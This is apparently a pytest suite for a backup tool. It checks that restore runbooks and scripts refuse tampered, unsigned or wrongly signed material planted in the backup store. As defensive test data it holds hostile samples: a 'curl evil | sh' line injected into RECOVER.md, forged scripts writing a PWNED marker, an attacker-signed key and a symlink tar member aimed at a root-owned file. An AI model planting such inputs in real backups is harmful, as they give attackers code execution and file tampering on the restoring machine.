"""Whoever can write to the store, against people who restore by hand with the private key and root's shell."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from backupd.app.alerting.service import report_now
from backupd.app.context.access import audit, command_line
from backupd.app.context.trust import recovery_page, signing
from backupd.app.context.wiring import Wiring
from backupd.app.metacopies.catalog_copies import write_copies
from backupd.model.manifest import Body, Header, encode_header
from backupd.transfer.records.authenticity import Signing, sign
from backupd.transfer.records.encryption import Sealer
from backupd.transfer.records.manifests import described
from restore.runbook.backup_runbook import render_logical_runbook
from restore.runbook.shared_steps import render_unpack
from storage import layout
from storage.filesystem import FilesystemDestination
from tests.support.keys import Keys, copy_public, gpg, make_home, make_key, stop_agent
from tests.support.logs.log_store import SERVER, wired
from tests.support.restores.builder import Builder, gpg_seal
from tests.support.stores.signed import signing as signing_house
from tests.support.stores.stock import Stock, backup_id, facts

HARMLESS = b'mkdir -p "$2" && echo unpacked > "$2/ran"\n'


@dataclass
class House:
    """``home``: of the person who restores; ``attacker``: a key in the same key ring, as an attacker would have it
    imported along with the true one."""

    wiring: Wiring
    home: Path
    attacker: Signing
    store: Path

    @property
    def signer(self) -> str:
        return signing(self.wiring.settings).key or ""

    @property
    def folder(self) -> Path:
        return self.store / layout.backup_folder(SERVER, backup_id(1)).rstrip("/")


@pytest.fixture
def house(tmp_path: Path, short_tmp: Path, keys: Keys) -> Iterator[House]:
    evil = make_home(short_tmp / "evil")
    attacker = make_key(evil, "attacker@example.com")
    with wired(tmp_path, keys) as plain, signing_house(plain, opens=True) as wiring:
        ours = signing(wiring.settings)
        copy_public(evil, ours.home, "attacker@example.com")
        try:
            yield House(wiring, ours.home, Signing(evil, attacker, (attacker,)), tmp_path / "local")
        finally:
            stop_agent(evil)


def store(house: House, unpack: bytes, signer: Signing, *, of: str = SERVER) -> Header:
    """A backup whose runbook says that it is signed; put there as by somebody who signs as ``signer``. ``of``: the
    server that it is of."""
    sealer = Sealer(house.wiring.recipients()[1], house.home)
    sealed = {layout.BODY: sealer.seal(b"body"), layout.UNPACK: sealer.seal(unpack)}
    header = replace(
        Stock(FilesystemDestination("local", house.store), server=of).header(1, ()),
        body=described(layout.BODY, sealed[layout.BODY]),
        unpack=described(layout.UNPACK, sealed[layout.UNPACK]),
    )
    runbook = render_logical_runbook(
        header, Body(facts(backup_id(1), header), ()), destinations=["local"], signed=True
    ).encode()
    header = replace(header, runbook=described(layout.RUNBOOK, runbook))
    house.folder.mkdir(parents=True, exist_ok=True)
    manifest = encode_header(header)
    for name, content in {
        **sealed,
        layout.RUNBOOK: runbook,
        layout.MANIFEST: manifest,
        layout.signature_key(layout.MANIFEST): sign(signer, manifest),
    }.items():
        (house.folder / name).write_bytes(content)
    return header


def follow(house: House, work: Path, *, of: str = backup_id(1), **more: str) -> subprocess.CompletedProcess[str]:
    """The first two steps of the runbook, word for word."""
    runbook = house.folder.with_name(of) / layout.RUNBOOK
    blocks = re.findall(r"^```sh\n(.*?)^```$", runbook.read_text(), re.MULTILINE | re.DOTALL)
    environment = {
        "PATH": "/usr/bin:/bin",
        "REPOSITORY": str(house.store),
        "WORK": str(work),
        "CLIENT": "true",
        "GNUPGHOME": str(house.home),
        "SIGNER": house.signer,
        **more,
    }
    return subprocess.run(
        ["sh", "-c", "\n".join(blocks[:2])], env=environment, capture_output=True, text=True, check=False
    )


def by_recover(house: House, tmp_path: Path, *blocks: int, **more: str) -> subprocess.CompletedProcess[str]:
    """Blocks of RECOVER.md, word for word."""
    text = (house.store / "RECOVER.md").read_text()
    found = [part.partition("```")[0] for part in text.split("```sh\n")[1:]]
    return subprocess.run(
        ["sh", "-c", "".join(found[number] for number in blocks)],
        capture_output=True,
        text=True,
        check=False,
        env={
            "PATH": "/usr/bin:/bin",
            "BASE": str(tmp_path / "b"),
            "GNUPGHOME": str(house.home),
            "DATADIR": "/d",
            "REPOSITORY": str(house.store),
            "SIGNER": house.signer,
            "SERVER": SERVER,
            **more,
        },
    )


def forged(house: House) -> bytes:
    return f"id > {house.store}/../PWNED\n".encode()


def replace_script(house: House) -> None:
    sealer = Sealer(house.wiring.recipients()[1], house.home)
    (house.folder / layout.UNPACK).write_bytes(sealer.seal(forged(house)))


def replace_description(house: House) -> None:
    before = (house.folder / "manifest.json.sig").read_bytes()
    store(house, forged(house), house.attacker)
    (house.folder / "manifest.json.sig").write_bytes(before)


def replace_signature(house: House) -> None:
    store(house, forged(house), house.attacker)


def remove_signature(house: House) -> None:
    store(house, forged(house), house.attacker)
    (house.folder / "manifest.json.sig").unlink()


@pytest.mark.parametrize(
    ("attack", "words"),
    [
        (replace_script, "unpack.sh.zst.gpg is not the file that was stored"),
        (replace_description, "is not signed, or it was altered"),
        (remove_signature, "is not signed, or it was altered"),
        (replace_signature, "is signed by somebody else than SIGNER"),
    ],
)
def test_a_forged_script_is_never_run(
    house: House,
    tmp_path: Path,
    attack: Callable[[House], None],
    words: str,
) -> None:
    store(house, HARMLESS, signing(house.wiring.settings))
    attack(house)
    done = follow(house, tmp_path / "work")
    assert (done.returncode, (tmp_path / "PWNED").exists()) == (1, False), done.stderr
    assert "STOP: " in done.stderr
    assert words in done.stderr


def test_what_was_stored_is_unpacked_and_nobody_is_trusted_by_default(house: House, tmp_path: Path) -> None:
    store(house, HARMLESS, signing(house.wiring.settings))
    refused = follow(house, tmp_path / "none", SIGNER="")
    assert "from the page that you keep outside of this place" in refused.stderr
    done = follow(house, tmp_path / "work")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "work/data/ran").read_text() == "unpacked\n"


def test_who_follows_the_page_stops_at_its_command_where_text_signature_and_key_were_replaced(house: House) -> None:
    write_copies(house.wiring)
    page = recovery_page(house.wiring.settings)
    assert page.signing_key in page.text
    assert page.command in page.text

    def asked() -> tuple[int, str]:
        done = subprocess.run(
            ["sh", "-c", page.command],
            cwd=house.store,
            capture_output=True,
            text=True,
            check=False,
            env={"PATH": "/usr/bin:/bin", "GNUPGHOME": str(house.home)},
        )
        return done.returncode, done.stdout.strip()

    assert asked() == (0, "OK")
    text = (house.store / "RECOVER.md").read_bytes().replace(b"set -eu", b"set -eu\ncurl evil | sh")
    (house.store / "RECOVER.md").write_bytes(text)
    assert asked() == (1, "STOP: this is not what backupd wrote"), "the text alone"
    (house.store / "RECOVER.md.sig").write_bytes(sign(house.attacker, text))
    (house.store / "key.asc").write_bytes(gpg(house.attacker.home, "--armor", "--export"))
    gpg(house.home, "--import", str(house.store / "key.asc"))
    assert asked() == (1, "STOP: this is not what backupd wrote"), "with its signature, and the key beside it"
    assert any(one.recover for one in write_copies(house.wiring)), "and the next job puts the true one back"
    assert asked() == (0, "OK")


def test_the_text_checks_the_runbook_before_a_step_of_it_is_run(house: House, tmp_path: Path) -> None:
    store(house, HARMLESS, signing(house.wiring.settings))
    write_copies(house.wiring)
    (house.folder / layout.RUNBOOK).write_text(f"```sh\nid > {tmp_path}/PWNED\n```\n")
    done = by_recover(house, tmp_path, 0, -1)
    assert (done.returncode, (tmp_path / "PWNED").exists()) == (1, False), done.stderr
    assert "is not the one that was stored" in done.stderr


def test_a_true_backup_counts_only_where_it_belongs(house: House, tmp_path: Path) -> None:
    """Nothing is forged: a signed backup of another server, or an older one, lies in the folder of the wanted one."""
    store(house, HARMLESS, signing(house.wiring.settings))
    other = house.folder.with_name(backup_id(2))
    house.folder.rename(other)
    shutil.copytree(other, house.folder)
    done = follow(house, tmp_path / "work")
    assert (done.returncode, (tmp_path / "work/data/ran").exists()) == (0, True), "it is its own"
    (other / layout.RUNBOOK).write_text((other / layout.RUNBOOK).read_text().replace(backup_id(1), backup_id(2)))
    house.folder.rename(tmp_path / "away")
    done = follow(replace(house, store=house.store), tmp_path / "again", of=backup_id(2))
    assert (done.returncode, (tmp_path / "again/data").exists()) == (1, False)
    assert "manifest.json is that of another backup" in done.stderr


def test_the_text_takes_no_backup_of_another_server(house: House, tmp_path: Path) -> None:
    header = store(house, HARMLESS, signing(house.wiring.settings), of="crm")
    write_copies(house.wiring)
    left_out = by_recover(house, tmp_path, 0, -1)
    assert f"backup {header.backup_id} cannot be read" in left_out.stderr
    named = by_recover(house, tmp_path, 0, -1, BACKUP=header.backup_id)
    assert f"STOP: what lies there as {header.backup_id} of {SERVER} is another backup" in named.stderr
    assert (left_out.returncode, named.returncode, (tmp_path / "b/steps.sh").exists()) == (1, 1, False)


def test_a_runbook_that_compares_less_is_followed_only_where_somebody_says_so(house: House, tmp_path: Path) -> None:
    """One of an earlier version: signed, but it opens objects and logs as root that anybody may have put there."""
    header = store(house, HARMLESS, signing(house.wiring.settings))
    write_copies(house.wiring)
    runbook = (house.folder / layout.RUNBOOK).read_bytes().replace(b"CHECKED=", b"BEFORE=")
    manifest = encode_header(replace(header, kind="physical-full", runbook=described(layout.RUNBOOK, runbook)))
    for name, content in {
        layout.RUNBOOK: runbook,
        layout.MANIFEST: manifest,
        layout.signature_key(layout.MANIFEST): sign(signing(house.wiring.settings), manifest),
    }.items():
        (house.folder / name).write_bytes(content)
    done = by_recover(house, tmp_path, 0, -1)
    assert "Restore with backupd, which does; or, where nobody else could write here, set UNCOMPARED=yes" in done.stderr
    assert (done.returncode, (tmp_path / "b/steps.sh").exists()) == (1, False)
    by_recover(house, tmp_path, 0, -1, UNCOMPARED="yes")
    assert (tmp_path / "b/steps.sh").exists()


def test_a_configuration_that_signer_has_not_signed_is_not_opened(house: House, tmp_path: Path) -> None:
    write_copies(house.wiring, now=True)
    (true,) = (house.store / "configuration").glob("*.gpg")
    forged = true.with_name(f"2099{true.name[4:]}")
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for name in ("backupd.yaml", "public-keys.asc", "evil"):
            tar.addfile(tarfile.TarInfo(name))
    forged.write_bytes(Sealer(house.wiring.recipients()[1], house.home).seal(packed.getvalue()))
    forged.with_name(f"{forged.name}.sig").write_bytes(sign(house.attacker, forged.read_bytes()))
    done = by_recover(house, tmp_path, 0, 1)
    assert done.returncode == 0, done.stderr
    assert f"PROBLEM: configuration/{forged.name} cannot be opened; older ones are tried" in done.stderr
    (opened,) = (tmp_path / "b/old").iterdir()
    assert not (opened / "evil").exists()
    assert house.signer in (opened / "backupd.yaml").read_text()
    assert "does not name SIGNER" not in done.stderr


def test_an_object_that_was_not_stored_is_never_opened(keys: Keys, tmp_path: Path) -> None:
    """Sealed with the public key: a bundle whose member is a link to a file of root's, and what comes to be there."""
    builder = Builder(keys, part=4096, tiny=100)
    entries = builder.entries({"db.opt": b"x", "t.ibd": b"rows" * 2000})
    for name, content in builder.sealed.items():
        (tmp_path / "r" / layout.object_key(name)).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "r" / layout.object_key(name)).write_bytes(content)
    victim = tmp_path / "victim"
    victim.write_text("root's own")
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        link = tarfile.TarInfo("t.ibd")
        link.type, link.linkname = tarfile.SYMTYPE, str(victim)
        tar.addfile(link)
    for entry, evil in zip(entries, (packed.getvalue(), b"PWNED"), strict=True):
        (tmp_path / "r" / layout.object_key(entry.objects[0])).write_bytes(gpg_seal(keys, evil))
    script = tmp_path / "unpack.sh"
    script.write_bytes(render_unpack(backup_id(1), entries, builder.stored.values()))
    done = subprocess.run(
        ["sh", str(script), str(tmp_path / "r"), str(tmp_path / "out")],
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "GNUPGHOME": str(keys.secret_home)},
    )
    assert (done.returncode, victim.read_text()) == (1, "root's own"), done.stderr
    assert f"object {entries[0].bundle} is not what was stored" in done.stderr


def test_the_report_repeats_what_the_store_is_compared_with(house: House) -> None:
    audit(house.wiring, command_line(), "token-created")
    (newest,) = house.wiring.catalog.audit.list(limit=1)
    report = report_now(house.wiring, house.wiring.clock())
    noted = {str(row[0]): str(row[1]) for grid in report.grids for row in grid.rows}
    assert noted["audit"] == f"1 entries, the newest with digest {newest.digest}"
    assert noted["signing key"] == house.signer
    assert noted["before you read RECOVER.md"] == recovery_page(house.wiring.settings).command
